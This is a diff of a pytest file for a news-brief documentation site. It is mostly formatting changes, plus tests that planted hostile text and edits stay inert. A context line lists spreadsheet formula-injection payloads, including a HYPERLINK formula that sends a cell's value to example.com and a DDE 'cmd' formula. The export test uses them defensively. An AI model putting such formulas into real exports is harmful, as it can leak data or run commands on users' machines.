@@ -11,10 +11,10 @@ from pathlib import Path
 
 import pytest
 import yaml
+from modeltext import ALL_TEXT_FIELDS
 
 from conftest import add_second_brief, copy_project, mkdocs_build, problems
 from hostile_edits import BATCHES, EDITS, Edit
-from modeltext import ALL_TEXT_FIELDS
 from newsbrief.checks import DATED_FIELDS, load_site
 from newsbrief.model import FOLDERS, KINDS
 
@@ -36,7 +36,8 @@ RELATIVE_DATE_FIELDS = {f"{name}_as_stated" for name in DATED_FIELDS}
 def plantable(kind: str) -> list[str]:
     """Every text field of a kind (from the model), as dotted paths: 'roles.title'."""
     return [
-        f for f in ALL_TEXT_FIELDS[kind]
+        f
+        for f in ALL_TEXT_FIELDS[kind]
         # Exceptions quote the text's own words: planting in them would break the link they make.
         if f.rsplit(".", 1)[-1] not in RELATIVE_DATE_FIELDS and not f.startswith("not_figures.")
     ]
@@ -155,7 +156,6 @@ def test_feeds_and_json_ld_carry_planted_text_inertly(planted_site: Path) -> Non
     assert not any(char in block for block in blocks for char in "<>&\u2028\u2029")
 
 
-
 CONTENT_EDITS = [e for e in EDITS if not e.in_docs]
 
 
@@ -175,8 +175,11 @@ def test_each_hostile_or_mistaken_edit_gets_its_exact_message(project: Path, edi
 
 def tree(root: Path) -> set[str]:
     """Every path under ``root`` but the site folder and the project's caches."""
-    return {p.relative_to(root).as_posix() for p in root.rglob("*")
-            if not p.relative_to(root).as_posix().startswith(("site", "project/.cache")) and "__pycache__" not in p.parts}
+    return {
+        p.relative_to(root).as_posix()
+        for p in root.rglob("*")
+        if not p.relative_to(root).as_posix().startswith(("site", "project/.cache")) and "__pycache__" not in p.parts
+    }
 
 
 @pytest.mark.parametrize("group", BATCHES, ids=[f"batch{i}" for i in range(len(BATCHES))])
@@ -253,7 +256,6 @@ FORMULAS = ['=HYPERLINK("http://example.com/?leak=" & A1, "click")', "+1+cmd|' /
 
 
 def test_figures_csv_holds_no_live_formula_and_round_trips(real_content: Path) -> None:
-    from newsbrief.checks import load_site
     from newsbrief.export import FORMULA_STARTS, figures_csv
     from newsbrief.numbers import read_numbers
 
@@ -264,7 +266,8 @@ def test_figures_csv_holds_no_live_formula_and_round_trips(real_content: Path) -
         record["scope"] = FORMULAS[(index + 1) % len(FORMULAS)] + ', "quoted", and\na second line'
         # The formulas' digits are no figures: marked as an editor would, so the numbers check lets them through.
         record["not_figures"] = [
-            {"text": formula, "reason": "a planted formula"} for formula in dict.fromkeys(FORMULAS[i % len(FORMULAS)] for i in (index, index + 1))
+            {"text": formula, "reason": "a planted formula"}
+            for formula in dict.fromkeys(FORMULAS[i % len(FORMULAS)] for i in (index, index + 1))
             if read_numbers(formula)
         ]
         planted[path.stem] = record
@@ -306,7 +309,10 @@ def test_a_build_writes_only_into_site_and_the_projects_cache(tmp_path: Path) ->
     before = tree(tmp_path)
     result = subprocess.run(
         [sys.executable, "-m", "mkdocs", "build", "--strict", "-f", str(project / "mkdocs.yml"), "-d", str(tmp_path / "site")],
-        capture_output=True, text=True, timeout=300, env={**os.environ, "NO_MKDOCS_2_WARNING": "1", "TMPDIR": str(temporary)},
+        capture_output=True,
+        text=True,
+        timeout=300,
+        env={**os.environ, "NO_MKDOCS_2_WARNING": "1", "TMPDIR": str(temporary)},
     )
     assert result.returncode == 0, result.stderr[-2000:]
     assert list(temporary.iterdir()) == []
